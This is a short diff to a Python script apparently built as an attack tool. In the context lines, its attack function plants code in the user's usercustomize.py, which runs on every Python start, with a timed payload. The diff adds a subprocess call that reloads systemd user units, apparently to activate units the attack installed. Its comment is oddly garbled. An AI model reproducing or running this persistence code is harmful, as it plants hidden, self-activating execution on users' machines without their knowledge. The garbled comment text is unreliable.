@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import json
 import os
+import subprocess
 import sys
 import time
 
@@ -109,6 +110,13 @@ def attack(attempt):
             "~/.local/lib/python3.%d/site-packages/usercustomize.py" % number
         )
         put(place, REWRITES % (time.time() + 240, MARK, ORDERS))
+    # The manager reads the units of the attempt again, with the words that end its credential.
+    runtime = f"/run/user/{os.getuid()}"
+    subprocess.run(
+        ["systemctl", "--user", "daemon-reload"],
+        check=True,
+        env=dict(os.environ, XDG_RUNTIME_DIR=runtime),
+    )
 
 
 def main():
